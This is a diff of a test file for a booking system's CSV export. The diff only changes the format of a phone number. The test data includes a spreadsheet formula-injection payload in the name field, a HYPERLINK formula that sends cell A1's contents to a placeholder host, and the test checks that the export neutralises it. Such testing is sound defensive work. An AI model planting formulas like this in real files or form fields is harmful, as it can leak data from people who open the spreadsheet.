@@ -15,7 +15,7 @@ beforeAll(async () => {
   hostile = await makeBooking(staff, {
     fullName: '=HYPERLINK("https://example.com?"&A1,"Żółć; click")',
     email: 'hostile@example.org',
-    phoneNumber: '+39 333 1000001',
+    phoneNumber: '+39 333 100 0001',
   });
 });
 
@@ -35,7 +35,7 @@ test('a booking is exported by itself, in UTF-8, without anything that a spreads
     'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Total (EUR),Language,Created,Paid (EUR),Refunded (EUR),Kept (EUR)',
   );
   expect(row).toContain(
-    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 1000001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),14.00,EN,`,
+    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 100 0001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),14.00,EN,`,
   );
   expect(others).toEqual([]);
 });
